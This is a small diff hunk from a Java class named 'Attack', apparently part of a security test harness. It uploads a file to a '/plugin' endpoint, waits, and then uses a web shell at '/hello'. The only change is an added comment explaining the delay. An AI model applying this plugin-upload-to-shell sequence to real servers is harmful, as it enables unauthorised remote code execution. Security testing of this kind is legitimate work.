@@ -13,6 +13,7 @@ public class Attack {
     out.writeInt(file.length);
     out.write(file);
     Attacker.post("/plugin", bytes.toByteArray(), "Content-Type", "application/octet-stream");
+    // longer than an idle connection lives
     Thread.sleep(3_000);
     Shells.use("/hello");
     Attacker.done();
